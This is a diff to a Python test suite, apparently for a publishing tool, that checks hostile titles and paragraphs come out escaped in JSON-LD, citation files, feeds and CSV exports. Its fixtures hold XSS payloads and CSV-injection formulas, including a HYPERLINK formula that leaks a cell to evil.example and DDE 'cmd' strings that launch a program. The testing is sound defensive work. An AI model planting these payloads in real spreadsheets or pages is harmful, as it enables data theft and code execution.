@@ -223,6 +223,16 @@ def page_problems(page: _Page, base_url: str) -> list[str]:
     """Scripts, handlers, URLs and foreign resources of one parsed page."""
     problems = []
     for attrs, content in page.scripts:
+        if attrs.get("type") == "application/ld+json" and not attrs.get("src"):
+            # schema.org metadata: a data block the browser never runs. It must be JSON that no
+            # text of the record can end early: no "<" at all (they are \u003c escapes).
+            if "<" in content or ">" in content:
+                problems.append(f"markup in a JSON-LD block: {content[:80]!r}")
+            try:
+                json.loads(content)
+            except ValueError as error:
+                problems.append(f"JSON-LD block that is not JSON: {error}")
+            continue
         src = attrs.get("src")
         if not src or not (_is_relative(src) or src.startswith(base_url)):
             problems.append(f"script without a same-origin src: {attrs}")
@@ -317,6 +327,45 @@ def test_data_files_carry_the_payloads_as_plain_strings(hostile):
     assert not any("&lt;script&gt;" in s for s in strings.values())
     rows = list(csv.reader(io.StringIO((hostile.root / "data" / "paragraphs.csv").read_text(encoding="utf-8"))))
     assert any('<img src=x onerror="window.__pwned=2">' in cell for row in rows for cell in row)
+
+
+#: Paragraphs of hostile-plain that a spreadsheet would read as formulas (OWASP, CSV injection).
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?leak="&A1,"clic") est une formule.',
+    "+33 1 23 45 67 89 est un numéro ; -2+3+cmd|' /C calc'!A0 aussi.",
+    "@SUM(1+1)*cmd|' /C calc'!A0 est du texte.",
+    "- Un tiret ouvre ce paragraphe, comme dans les vrais documents.",
+)
+
+
+def test_csv_cells_never_begin_a_formula(hostile):
+    """Each such cell of paragraphs.csv begins with a quote; the JSON keeps the exact text."""
+    text = (hostile.root / "data" / "paragraphs.csv").read_text(encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    cells = [cell for row in rows for cell in row.values()]
+    bad = [cell[:60] for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert not bad, bad
+    texts = {row["text"] for row in rows}
+    exact = {p["text"] for p in json.loads((hostile.root / "data" / "paragraphs.json").read_text(encoding="utf-8"))}
+    for formula in FORMULAS:
+        assert "'" + formula in texts and formula not in texts, formula
+        assert formula in exact, formula
+
+
+def test_json_ld_and_citations_carry_the_payloads_as_text(hostile):
+    """The JSON-LD block gives back the title exactly; BibTeX, RIS and the feed hold it too."""
+    page = parse_page((hostile.root / "documents" / "hostile-plain" / "index.html").read_text(encoding="utf-8"))
+    blocks = [json.loads(content) for attrs, content in page.scripts if attrs.get("type") == "application/ld+json"]
+    assert len(blocks) == 1
+    title = 'Titre <script>alert(1)</script> <img src=x onerror="window.__pwned=30"> {{ 7*7 }} \u202e عربي'
+    assert blocks[0]["name"] == title
+    metas = {attrs.get("name"): attrs.get("content") for tag, attrs in page.tags if tag == "meta" and attrs.get("name")}
+    assert metas["citation_title"] == close_bidi(title)
+    assert not any((attrs.get("name") or "").startswith("citation_") and attrs.get("content") is None for _, attrs in page.tags)
+    csl = json.loads((hostile.root / "documents" / "hostile-plain" / "citation.json").read_text(encoding="utf-8"))
+    assert csl[0]["title"] == title
+    feed = (hostile.root / "feed.xml").read_text(encoding="utf-8")
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in feed and "<script>" not in feed
 
 
 def test_markdown_raw_html_and_links_are_text(hostile):
